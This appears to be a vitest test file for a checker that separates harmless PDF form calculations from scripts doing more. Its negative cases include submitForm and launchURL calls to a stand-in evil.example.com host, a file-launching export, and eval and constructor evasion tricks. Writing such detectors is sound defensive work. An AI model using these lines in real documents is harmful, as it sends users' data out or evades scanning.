/** Scripts of forms: what only calculates is honest, and what could do more is not. */
import { expect, test } from 'vitest'
import { areFormScripts } from '../../src/archives/pdf/scripts.ts'

test.for<readonly [what: string, ...codes: readonly string[]]>([
  ['Acrobat’s functions', 'AFSimple_Calculate("SUM", new Array("a","b"));', 'AFDate_FormatEx("dd.mm.yyyy");'],
  [
    'a sum',
    'var t = 0; for (var i = 1; i < 9; i++) { t += Number(this.getField("line" + i).value); } event.value = t;',
  ],
  ['a function of another script', 'function half(x) { return x / 2; }', 'event.value = half(getField("a").value);'],
  ['a check', 'if (!/^\\d{5}$/.test(event.value)) { app.alert({ cMsg: "Five digits", nIcon: 1 }); event.rc = false; }'],
  ['a date', 'event.value = util.printd("dd.mm.yyyy", new Date());'],
  ['a list', 'var names = ["a", "b"]; getField("x").display = names[0] == "a" ? display.hidden : display.visible;'],
  ['printing', 'this.print({bUI: false, bSilent: true, bShrinkToFit: true});'],
  ['a comment that names something else', '// app.launchURL("x")\n/* eval */ event.value = "submitForm";'],
])('%s', async ([, ...codes]) => {
  expect(await areFormScripts(codes)).toEqual(codes.map(() => true))
})

test.for<readonly [what: string, code: string | undefined]>([
  ['a script that cannot be read', undefined],
  ['a URL that is opened', 'app.launchURL("http://evil.example.com")'],
  ['a file that is saved', 'this.exportDataObject({ cName: "a", nLaunch: 2 })'],
  ['a form that is sent', 'submitForm("http://evil.example.com")'],
  ['a member by its name', 'this["exportData" + "Object"]({ cName: "a" })'],
  ['a member by a variable', 'var a = "submitForm"; this[a]("x")'],
  ['an object under another name', 'var a = this; a.value = a[b]'],
  ['a result that is called', 'getField("a").doc["x"]("y")'],
  ['a variable that is called', 'var f = event.value; f("x")'],
  ['code in a text', 'eval("1")'],
  ['code in a text under another name', 'var e = eval; e("1")'],
  ['a function that replaces', '"http://a".replace("http", submitForm)'],
  ['a constructor', '"".constructor.constructor("x")()'],
  ['an escape in a name', 'ev\\u0061l("1")'],
  ['a template', 'event.value = `a`'],
  ['a text without an end', 'event.value = "a'],
  ['a name that nothing explains', 'Collab.getIcon("x")'],
  ['an Acrobat function around something else', 'AFNumber_Format(eval(x))'],
])('%s is more than a form needs', async ([, code]) => {
  expect(await areFormScripts([code])).toEqual([false])
  expect((await areFormScripts(['function submitForm(x) { return x; }', code]))[1]).toBe(false)
})
